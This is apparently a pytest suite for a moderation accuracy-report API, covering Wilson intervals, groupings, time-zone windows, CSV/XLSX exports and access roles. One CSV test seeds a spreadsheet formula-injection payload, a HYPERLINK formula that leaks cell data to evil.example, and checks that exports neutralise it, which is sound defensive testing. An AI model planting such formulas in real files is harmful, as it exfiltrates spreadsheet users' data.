"""The accuracy report: counts, Wilson intervals, windows, groupings, files and access.

Decisions arrive through the signed webhook; their audits and verdicts are written with the
ORM by the small factories below (the verdict endpoint is built elsewhere), each verdict on
its decision's market-local day as the verdict endpoint records it, and its rollup slice
marked dirty as the endpoint marks it. The report reads the rollups (refreshed in its own
transaction), so these counts are the rollups' as much as the verdicts'.
"""

from __future__ import annotations

import csv
import io
import uuid
from dataclasses import dataclass, field
from datetime import UTC, date, datetime, timedelta
from typing import Any

import httpx
import pytest
from openpyxl import load_workbook
from sqlalchemy import Date, cast, func, select
from sqlalchemy.ext.asyncio import AsyncSession, async_sessionmaker

from shared.analytics.exports import FORMULA_TRIGGERS, spreadsheet_safe
from shared.analytics.rollups import Slice, mark_slices_dirty
from shared.models import Audit, Decision, Market, Verdict
from shared.reports.rows import accuracy_row, column_headers, report_window
from shared.reports.service import accuracy_rows
from shared.stats.intervals import wilson_interval
from tests.conftest import SignedSender, auth, decision_event, make_key

PROBLEM = "application/problem+json"
REPORT = "/v1/reports/accuracy"


@dataclass
class Case:
    """One audited decision: what the moderator did and what the audit concluded."""

    moderator: str = "mod-a"
    outcome: str = "correct"
    overturned: bool = False
    golden: bool = False
    market: str = "DE"
    queue: str = "de-video-standard"
    labels: list[str] = field(default_factory=lambda: ["hate_speech"])
    decided_at: str = "2026-11-10T10:00:00Z"
    action: str = "remove"
    # What an incorrect verdict expected instead (by default: approve, no labels).
    expected_action: str = "approve"
    expected_labels: list[str] | None = None
    # Set only to place a verdict on a day relative to today (the default window).
    day: date | None = None


async def seed(
    sender: SignedSender,
    sessionmaker: async_sessionmaker[AsyncSession],
    cases: list[Case],
) -> None:
    """Post the cases' decisions, then write a completed audit and a verdict for each."""
    prefix = uuid.uuid4().hex[:8]
    events = [
        decision_event(
            n,
            event_id=f"{prefix}-{n}",
            content_id=f"{prefix}-c{n}",
            moderator_id=case.moderator,
            market=case.market,
            queue=case.queue,
            policy_labels=case.labels,
            decided_at=case.decided_at,
            action=case.action,
        )
        for n, case in enumerate(cases)
    ]
    for start in range(0, len(events), 1000):
        response = await sender.post({"events": events[start : start + 1000]})
        assert response.status_code == 202, response.text
        assert response.json()["accepted"] == len(events[start : start + 1000])
    # The decision's day in its market's time zone, computed the way the API does.
    local_day = cast(func.timezone(Market.time_zone, Decision.decided_at), Date)
    async with sessionmaker() as session, session.begin():
        stored = {
            decision.event_id: (decision, day)
            for decision, day in (
                await session.execute(
                    select(Decision, local_day)
                    .join(Market, Market.code == Decision.market)
                    .where(Decision.event_id.startswith(f"{prefix}-"))
                )
            ).all()
        }
        assert len(stored) == len(cases)
        slices: list[Slice] = []
        for n, case in enumerate(cases):
            decision, market_day = stored[f"{prefix}-{n}"]
            day = case.day or market_day
            audit = Audit(
                id=uuid.uuid4(),
                decision_id=decision.id,
                reason="test",
                market=decision.market,
                queue=decision.queue,
                language=decision.language,
                moderator_id=decision.moderator_id,
                policy_labels=decision.policy_labels,
                day=day,
                status="completed",
                priority=0.5,
                auditor_id="aud-1",
                completed_at=datetime.now(UTC),
                is_golden=case.golden,
            )
            incorrect = case.outcome == "incorrect"
            verdict = Verdict(
                id=uuid.uuid4(),
                audit_id=audit.id,
                decision_id=decision.id,
                auditor_id="aud-1",
                moderator_id=decision.moderator_id,
                market=decision.market,
                queue=decision.queue,
                day=day,
                outcome=case.outcome,
                effective_outcome="correct" if case.overturned else case.outcome,
                expected_action=case.expected_action if incorrect else None,
                expected_labels=case.expected_labels if incorrect else None,
                error_type="over_enforcement" if incorrect else None,
                severity="minor" if incorrect else None,
                policy_versions={},
            )
            session.add(audit)
            await session.flush()
            session.add(verdict)
            if not case.golden:
                # What the verdict endpoint does in its transaction: the rollups learn of it.
                slices.append(Slice(day, decision.market, decision.queue, decision.moderator_id))
        await mark_slices_dirty(session, slices)


def summary(body: dict[str, Any]) -> list[tuple[str, int, int]]:
    return [(row["key"], row["audited"], row["correct"]) for row in body["rows"]]


async def report(client: httpx.AsyncClient, key: str, **params: str) -> dict[str, Any]:
    response = await client.get(REPORT, params=params, headers=auth(key))
    assert response.status_code == 200, response.text
    body: dict[str, Any] = response.json()
    return body


WINDOW = {"from": "2026-11-01", "to": "2026-11-30"}


# --- Rows from counts ---------------------------------------------------------------


@pytest.mark.no_db
@pytest.mark.parametrize(
    ("correct", "audited", "low", "high"),
    [
        # Newcombe RG (1998), "Two-sided confidence intervals for the single proportion:
        # comparison of seven methods", Statistics in Medicine 17:857-872, Table I, method 3
        # (Wilson 1927, "Probable inference, the law of succession, and statistical
        # inference", JASA 22:209-212, without continuity correction).
        (81, 263, 0.2553, 0.3662),
        (15, 148, 0.0624, 0.1605),
        (0, 20, 0.0000, 0.1611),
        (1, 29, 0.0061, 0.1718),
        (29, 29, 0.8830, 1.0000),
    ],
)
def test_rows_carry_the_wilson_interval_of_newcombe_1998(
    correct: int, audited: int, low: float, high: float
) -> None:
    row = accuracy_row("slice", audited=audited, correct=correct)
    assert (row.audited, row.correct) == (audited, correct)
    assert row.accuracy == pytest.approx(correct / audited)
    assert row.ci_low == pytest.approx(low, abs=5e-5)
    assert row.ci_high == pytest.approx(high, abs=5e-5)
    assert 0.0 <= row.ci_low <= row.accuracy <= row.ci_high <= 1.0


@pytest.mark.no_db
def test_a_slice_without_verdicts_has_no_row() -> None:
    with pytest.raises(ValueError, match="trials must be positive"):
        accuracy_row("slice", audited=0, correct=0)


@pytest.mark.no_db
def test_report_window_defaults_to_the_thirty_days_ending_today() -> None:
    today = date(2026, 11, 30)
    assert report_window(None, None, today=today) == (date(2026, 11, 1), today)
    assert report_window(None, date(2026, 3, 1), today=today) == (
        date(2026, 1, 31),
        date(2026, 3, 1),
    )
    assert report_window(date(2026, 11, 30), None, today=today) == (today, today)
    with pytest.raises(ValueError, match="is after"):
        report_window(date(2026, 12, 1), None, today=today)


# --- Counting ------------------------------------------------------------------------------


async def test_overturned_counts_as_correct_and_golden_never_counts(
    sender: SignedSender,
    client: httpx.AsyncClient,
    admin_key: str,
    sessionmaker: async_sessionmaker[AsyncSession],
) -> None:
    await seed(
        sender,
        sessionmaker,
        [
            Case("mod-a", "correct"),
            Case("mod-a", "correct"),
            Case("mod-a", "incorrect"),
            Case("mod-b", "correct"),
            Case("mod-b", "incorrect", overturned=True),
            Case("mod-b", "incorrect"),
            Case("mod-b", "correct"),
            Case("mod-b", "incorrect", golden=True),
            Case("mod-c", "correct", golden=True),
        ],
    )
    body = await report(client, admin_key, group_by="moderator", **WINDOW)
    # By hand: mod-a 2 of 3; mod-b 3 of 4 (one overturned: correct; the golden one left
    # out); mod-c has only a golden audit, so no row. Wilson bounds (z = 1.959964):
    # 2/3 -> 0.2077 .. 0.9385, 3/4 -> 0.3006 .. 0.9544.
    assert body == {
        "rows": [
            {
                "key": "mod-a",
                "audited": 3,
                "correct": 2,
                "accuracy": pytest.approx(2 / 3),
                "ci_low": pytest.approx(0.2077, abs=5e-5),
                "ci_high": pytest.approx(0.9385, abs=5e-5),
            },
            {
                "key": "mod-b",
                "audited": 4,
                "correct": 3,
                "accuracy": 0.75,
                "ci_low": pytest.approx(0.3006, abs=5e-5),
                "ci_high": pytest.approx(0.9544, abs=5e-5),
            },
        ]
    }


async def test_newcombe_example_end_to_end(
    sender: SignedSender,
    client: httpx.AsyncClient,
    admin_key: str,
    sessionmaker: async_sessionmaker[AsyncSession],
) -> None:
    cases = [Case(f"mod-{n % 7}", "correct") for n in range(81)]
    cases += [Case(f"mod-{n % 7}", "incorrect") for n in range(182)]
    await seed(sender, sessionmaker, cases)
    [row] = (await report(client, admin_key, group_by="market", **WINDOW))["rows"]
    assert (row["key"], row["audited"], row["correct"]) == ("DE", 263, 81)
    assert row["accuracy"] == pytest.approx(81 / 263)
    # Newcombe (1998), Table I: 81/263, Wilson interval 0.2553 to 0.3662.
    assert row["ci_low"] == pytest.approx(0.2553, abs=5e-5)
    assert row["ci_high"] == pytest.approx(0.3662, abs=5e-5)


async def test_every_group_by(
    sender: SignedSender,
    client: httpx.AsyncClient,
    admin_key: str,
    sessionmaker: async_sessionmaker[AsyncSession],
) -> None:
    await seed(
        sender,
        sessionmaker,
        [
            Case("mod-a", "correct", labels=["hate_speech", "violent_graphic"]),
            Case("mod-a", "incorrect", labels=["hate_speech"], decided_at="2026-11-11T09:00:00Z"),
            Case("mod-b", "correct", labels=[], decided_at="2026-11-11T09:00:00Z"),
            Case(
                "mod-b",
                "incorrect",
                overturned=True,
                labels=["spam", "spam"],
                market="AT",
                queue="at-text",
            ),
            Case(
                "Mod-Z",
                "incorrect",
                labels=["spam"],
                decided_at="2026-11-12T09:00:00Z",
                market="AT",
                queue="at-text",
            ),
            Case("mod-b", "incorrect", golden=True, labels=["violent_graphic"]),
        ],
    )

    async def grouped(group_by: str, **extra: str) -> list[tuple[str, int, int]]:
        return summary(await report(client, admin_key, group_by=group_by, **WINDOW, **extra))

    # Byte order: upper case sorts before lower case.
    assert await grouped("moderator") == [("Mod-Z", 1, 0), ("mod-a", 2, 1), ("mod-b", 2, 2)]
    assert await grouped("queue") == [("at-text", 2, 1), ("de-video-standard", 3, 2)]
    assert await grouped("market") == [("AT", 2, 1), ("DE", 3, 2)]
    assert await grouped("day") == [
        ("2026-11-10", 2, 2),
        ("2026-11-11", 2, 1),
        ("2026-11-12", 1, 0),
    ]
    # A verdict counts once under each distinct label; no label at all counts as "(none)".
    assert await grouped("policy") == [
        ("(none)", 1, 1),
        ("hate_speech", 2, 1),
        ("spam", 2, 1),
        ("violent_graphic", 1, 1),
    ]
    assert await grouped("moderator", market="AT") == [("Mod-Z", 1, 0), ("mod-b", 1, 1)]
    assert await grouped("policy", queue="de-video-standard") == [
        ("(none)", 1, 1),
        ("hate_speech", 2, 1),
        ("violent_graphic", 1, 1),
    ]
    assert await grouped("day", moderator_id="mod-a") == [
        ("2026-11-10", 1, 1),
        ("2026-11-11", 1, 0),
    ]
    assert await grouped("market", market="FR") == []


async def test_policy_rows_count_the_moderators_and_the_auditors_policies(
    sender: SignedSender,
    client: httpx.AsyncClient,
    admin_key: str,
    sessionmaker: async_sessionmaker[AsyncSession],
) -> None:
    """Under-enforcement shows under the policy the auditor expected (not under "(none)"),
    over-enforcement under the policy the moderator applied, each policy once per verdict."""
    await seed(
        sender,
        sessionmaker,
        [
            # Missed hate speech: approved with no label, should have been removed for it.
            Case(
                action="approve",
                labels=[],
                outcome="incorrect",
                expected_action="remove",
                expected_labels=["hate_speech"],
            ),
            # Over-enforcement: removed for spam, should have been approved.
            Case(labels=["spam"], outcome="incorrect", expected_labels=[]),
            # Wrong policy: removed for hate_speech, it was violent_graphic.
            Case(
                labels=["hate_speech"],
                outcome="incorrect",
                expected_action="remove",
                expected_labels=["violent_graphic", "hate_speech", "violent_graphic"],
            ),
            # Correct approve without a label: about no policy.
            Case(action="approve", labels=[], outcome="correct"),
        ],
    )
    body = await report(client, admin_key, group_by="policy", **WINDOW)
    assert summary(body) == [
        ("(none)", 1, 1),
        ("hate_speech", 2, 0),
        ("spam", 1, 0),
        ("violent_graphic", 1, 0),
    ]
    # Filtered to one policy: the two verdicts concerning hate_speech (the missed one and
    # the wrong policy), under any grouping.
    body = await report(client, admin_key, group_by="moderator", policy="hate_speech", **WINDOW)
    assert summary(body) == [("mod-a", 2, 0)]
    body = await report(client, admin_key, group_by="policy", policy="spam", **WINDOW)
    assert summary(body) == [("spam", 1, 0)]


async def test_a_worker_gets_the_same_rows_from_the_shared_query(
    sender: SignedSender,
    client: httpx.AsyncClient,
    admin_key: str,
    sessionmaker: async_sessionmaker[AsyncSession],
) -> None:
    # Scheduled reports and escalation checks call accuracy_rows with a session and keyword
    # filters, no HTTP request: the rows are the API's.
    await seed(
        sender,
        sessionmaker,
        [
            Case("mod-a", "correct", labels=["spam"]),
            Case("mod-a", "incorrect", action="approve", labels=[], expected_labels=["spam"]),
            Case("mod-b", "correct", market="AT", queue="at-text"),
        ],
    )
    for group_by in ("policy", "market"):
        shown = (await report(client, admin_key, group_by=group_by, **WINDOW))["rows"]
        async with sessionmaker() as session:
            rows = await accuracy_rows(
                session,
                group_by=group_by,
                day_from=date(2026, 11, 1),
                day_to=date(2026, 11, 30),
                markets=None,
                queue=None,
                only_moderator=None,
            )
        assert [row.model_dump(mode="json") for row in rows] == shown
    async with sessionmaker() as session:
        german = await accuracy_rows(
            session,
            group_by="moderator",
            day_from=date(2026, 11, 1),
            day_to=date(2026, 11, 30),
            markets=["DE"],
            queue=None,
            only_moderator=None,
        )
    assert [(row.key, row.audited, row.correct) for row in german] == [("mod-a", 2, 1)]


async def test_days_are_inclusive_and_counted_in_each_market_time_zone(
    sender: SignedSender,
    client: httpx.AsyncClient,
    admin_key: str,
    sessionmaker: async_sessionmaker[AsyncSession],
) -> None:
    # US is America/New_York: UTC-5 in November.
    await seed(
        sender,
        sessionmaker,
        [
            Case(decided_at="2026-11-09T22:59:00Z"),  # Berlin 9 Nov 23:59: before
            Case(decided_at="2026-11-09T23:00:00Z"),  # Berlin 10 Nov 00:00: first day
            Case(decided_at="2026-11-12T22:59:00Z"),  # Berlin 12 Nov 23:59: last day
            Case(decided_at="2026-11-12T23:00:00Z"),  # Berlin 13 Nov 00:00: after
            Case(
                decided_at="2026-11-13T04:59:00Z", market="US", queue="us-video"
            ),  # New York 12 Nov 23:59: last day
            Case(
                decided_at="2026-11-10T04:59:00Z", market="US", queue="us-video"
            ),  # New York 9 Nov 23:59: before
        ],
    )
    window = {"from": "2026-11-10", "to": "2026-11-12"}
    assert summary(await report(client, admin_key, group_by="market", **window)) == [
        ("DE", 2, 2),
        ("US", 1, 1),
    ]
    assert summary(await report(client, admin_key, group_by="day", **window)) == [
        ("2026-11-10", 1, 1),
        ("2026-11-12", 2, 2),
    ]
    one_day = {"from": "2026-11-09", "to": "2026-11-09"}
    assert summary(await report(client, admin_key, group_by="market", **one_day)) == [
        ("DE", 1, 1),
        ("US", 1, 1),
    ]


async def test_default_window_is_the_last_thirty_days(
    sender: SignedSender,
    client: httpx.AsyncClient,
    admin_key: str,
    sessionmaker: async_sessionmaker[AsyncSession],
) -> None:
    today = datetime.now(UTC).date()
    await seed(
        sender,
        sessionmaker,
        [
            Case("mod-today", day=today),
            Case("mod-oldest", day=today - timedelta(days=29)),
            Case("mod-too-old", day=today - timedelta(days=30)),
        ],
    )
    rows = summary(await report(client, admin_key, group_by="moderator"))
    assert rows == [("mod-oldest", 1, 1), ("mod-today", 1, 1)]


# --- Files ---------------------------------------------------------------------------------


async def seed_for_files(
    sender: SignedSender, sessionmaker: async_sessionmaker[AsyncSession]
) -> None:
    await seed(
        sender,
        sessionmaker,
        [
            Case("mod-a", "correct"),
            Case("mod-a", "incorrect"),
            Case("mod-b", "correct"),
            # A moderator id a spreadsheet would take for a formula.
            Case("=1+1", "correct"),
        ],
    )


async def test_csv_holds_the_json_rows(
    sender: SignedSender,
    client: httpx.AsyncClient,
    admin_key: str,
    sessionmaker: async_sessionmaker[AsyncSession],
) -> None:
    await seed_for_files(sender, sessionmaker)
    params = {"group_by": "moderator", **WINDOW}
    rows = (await report(client, admin_key, **params))["rows"]
    response = await client.get(REPORT, params={**params, "format": "csv"}, headers=auth(admin_key))
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    assert response.headers["content-disposition"] == (
        'attachment; filename="accuracy-by-moderator-2026-11-01-to-2026-11-30.csv"'
    )
    assert response.text.startswith("key,audited,correct,accuracy,ci_low,ci_high\r\n")
    parsed = list(csv.reader(io.StringIO(response.text)))
    assert parsed[0] == ["key", "audited", "correct", "accuracy", "ci_low", "ci_high"]
    # The formula-like key is neutralised (see test_csv_cells_never_run_as_formulas).
    assert [row[0] for row in parsed[1:]] == ["'=1+1", "mod-a", "mod-b"]
    for line, row in zip(parsed[1:], rows, strict=True):
        assert line[0] == spreadsheet_safe(row["key"])
        assert int(line[1]) == row["audited"]
        assert int(line[2]) == row["correct"]
        assert [float(value) for value in line[3:]] == [
            row["accuracy"],
            row["ci_low"],
            row["ci_high"],
        ]


@pytest.mark.no_db
def test_spreadsheet_safe_neutralises_text_only() -> None:
    for text in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "-0.5"):
        assert spreadsheet_safe(text) == "'" + text
    for text in ("mod-a", "", "1", "a=b", "'=1"):
        assert spreadsheet_safe(text) == text
    # Numbers are ours, not user text: they stay numbers, negative ones included.
    for number in (-0.5, -3, 0, 0.25):
        assert spreadsheet_safe(number) == number


async def test_csv_cells_never_run_as_formulas(
    sender: SignedSender,
    client: httpx.AsyncClient,
    admin_key: str,
    sessionmaker: async_sessionmaker[AsyncSession],
) -> None:
    hyperlink = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")'
    keys = [hyperlink, "+1+1", "-2+3", "@SUM(B2:B9)", "mod-plain"]
    await seed(sender, sessionmaker, [Case(key, "correct") for key in keys])
    response = await client.get(
        REPORT,
        params={"group_by": "moderator", "format": "csv", **WINDOW},
        headers=auth(admin_key),
    )
    assert response.status_code == 200, response.text
    parsed = list(csv.reader(io.StringIO(response.text)))
    cells = {line[0] for line in parsed[1:]}
    assert cells == {"'" + key for key in keys[:-1]} | {"mod-plain"}
    for line in parsed[1:]:
        # No cell a spreadsheet would compute; the numbers are still plain numbers.
        assert not any(cell.startswith(FORMULA_TRIGGERS) for cell in line)
        assert (int(line[1]), int(line[2]), float(line[3])) == (1, 1, 1.0)


async def test_csv_of_an_empty_report_is_its_header(
    client: httpx.AsyncClient, admin_key: str
) -> None:
    response = await client.get(
        REPORT, params={"group_by": "queue", "format": "csv"}, headers=auth(admin_key)
    )
    assert response.status_code == 200, response.text
    assert response.text == "key,audited,correct,accuracy,ci_low,ci_high\r\n"


@pytest.mark.parametrize(
    ("lang", "headers"),
    [
        ("en", ["Moderator", "Audited", "Correct", "Accuracy", "95 % CI low", "95 % CI high"]),
        (
            "de",
            [
                "Moderator",
                "Geprüft",
                "Korrekt",
                "Genauigkeit",
                "95-%-KI untere Grenze",
                "95-%-KI obere Grenze",
            ],
        ),
    ],
)
async def test_xlsx_holds_the_json_rows_with_headers_in_the_language_asked(
    sender: SignedSender,
    client: httpx.AsyncClient,
    admin_key: str,
    sessionmaker: async_sessionmaker[AsyncSession],
    lang: str,
    headers: list[str],
) -> None:
    await seed_for_files(sender, sessionmaker)
    params = {"group_by": "moderator", **WINDOW}
    rows = (await report(client, admin_key, **params))["rows"]
    response = await client.get(
        REPORT, params={**params, "format": "xlsx", "lang": lang}, headers=auth(admin_key)
    )
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    assert response.headers["content-disposition"] == (
        'attachment; filename="accuracy-by-moderator-2026-11-01-to-2026-11-30.xlsx"'
    )
    workbook = load_workbook(io.BytesIO(response.content))
    sheet = workbook.worksheets[0]
    cells = [[cell.value for cell in line] for line in sheet.iter_rows()]
    assert cells[0] == headers
    # Excel keeps 15 significant digits (openpyxl writes 16): the same numbers to that.
    assert cells[1:] == [
        [
            row["key"],
            row["audited"],
            row["correct"],
            pytest.approx(row["accuracy"], rel=1e-14),
            pytest.approx(row["ci_low"], rel=1e-14),
            pytest.approx(row["ci_high"], rel=1e-14),
        ]
        for row in rows
    ]
    # The "=1+1" moderator is text, not a formula.
    assert sheet["A2"].data_type == "s"
    charts = sheet._charts
    assert len(charts) == 1
    assert type(charts[0]).__name__ == "BarChart"
    assert column_headers("moderator", lang) == tuple(headers)  # type: ignore[arg-type]


# --- Access --------------------------------------------------------------------------------


async def test_report_needs_a_key(client: httpx.AsyncClient) -> None:
    response = await client.get(REPORT, params={"group_by": "market"})
    assert response.status_code == 401
    assert response.headers["content-type"].startswith(PROBLEM)


@pytest.mark.parametrize("role", ["admin", "manager", "policy_poc", "qa_auditor"])
async def test_reviewing_roles_see_every_moderator(
    sender: SignedSender,
    client: httpx.AsyncClient,
    sessionmaker: async_sessionmaker[AsyncSession],
    role: str,
) -> None:
    await seed(sender, sessionmaker, [Case("mod-a"), Case("mod-b", "incorrect")])
    key = await make_key(sessionmaker, role)
    rows = summary(await report(client, key, group_by="moderator", **WINDOW))
    assert rows == [("mod-a", 1, 1), ("mod-b", 1, 0)]


async def test_moderator_sees_only_their_own_scores(
    sender: SignedSender,
    client: httpx.AsyncClient,
    sessionmaker: async_sessionmaker[AsyncSession],
) -> None:
    await seed(
        sender,
        sessionmaker,
        [
            Case("mod-a", "correct"),
            Case("mod-a", "incorrect", market="AT", queue="at-text"),
            Case("mod-b", "incorrect"),
            Case("mod-b", "incorrect"),
        ],
    )
    key = await make_key(sessionmaker, "moderator", reviewer_id="mod-a")
    assert summary(await report(client, key, group_by="moderator", **WINDOW)) == [("mod-a", 2, 1)]
    assert summary(await report(client, key, group_by="market", **WINDOW)) == [
        ("AT", 1, 0),
        ("DE", 1, 1),
    ]
    assert summary(await report(client, key, group_by="day", moderator_id="mod-a", **WINDOW)) == [
        ("2026-11-10", 2, 1)
    ]
    other = await client.get(
        REPORT, params={"group_by": "day", "moderator_id": "mod-b"}, headers=auth(key)
    )
    assert other.status_code == 403
    assert other.headers["content-type"].startswith(PROBLEM)
    as_csv = await client.get(
        REPORT, params={"group_by": "moderator", "format": "csv", **WINDOW}, headers=auth(key)
    )
    assert "mod-b" not in as_csv.text
    assert "mod-a,2,1," in as_csv.text


async def test_market_scoped_key_sees_only_its_markets(
    sender: SignedSender,
    client: httpx.AsyncClient,
    sessionmaker: async_sessionmaker[AsyncSession],
) -> None:
    await seed(
        sender,
        sessionmaker,
        [
            Case("mod-a", "correct"),
            Case("mod-b", "incorrect", market="AT", queue="at-text"),
            Case("mod-c", "correct", market="FR", queue="fr-text"),
        ],
    )
    key = await make_key(sessionmaker, "manager", markets=["DE", "AT"])
    assert summary(await report(client, key, group_by="market", **WINDOW)) == [
        ("AT", 1, 0),
        ("DE", 1, 1),
    ]
    assert summary(await report(client, key, group_by="moderator", **WINDOW)) == [
        ("mod-a", 1, 1),
        ("mod-b", 1, 0),
    ]
    assert summary(await report(client, key, group_by="queue", market="AT", **WINDOW)) == [
        ("at-text", 1, 0)
    ]
    outside = await client.get(
        REPORT, params={"group_by": "queue", "market": "FR"}, headers=auth(key)
    )
    assert outside.status_code == 403
    assert outside.headers["content-type"].startswith(PROBLEM)


# --- Bad input -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    "params",
    [
        {},
        {"group_by": "auditor"},
        {"group_by": "day", "from": "2026-11-12", "to": "2026-11-10"},
        {"group_by": "day", "from": "2999-01-01"},
        {"group_by": "day", "from": "2026-11-31"},
        {"group_by": "day", "to": "yesterday"},
        {"group_by": "day", "format": "pdf"},
        {"group_by": "day", "format": "xlsx", "lang": "fr"},
        {"group_by": "day", "market": "DEU"},
        {"group_by": "day", "colour": "blue"},
    ],
)
async def test_bad_parameters_are_422_problems(
    client: httpx.AsyncClient, admin_key: str, params: dict[str, str]
) -> None:
    response = await client.get(REPORT, params=params, headers=auth(admin_key))
    assert response.status_code == 422, response.text
    assert response.headers["content-type"].startswith(PROBLEM)
    body = response.json()
    assert body["status"] == 422
    assert body["errors"]
    assert "Traceback" not in response.text


@pytest.mark.no_db
def test_accuracy_row_is_made_from_counts_alone() -> None:
    row = accuracy_row("DE", audited=4, correct=3)
    assert (row.accuracy, row.audited, row.correct) == (0.75, 4, 3)
    assert (row.ci_low, row.ci_high) == wilson_interval(3, 4)
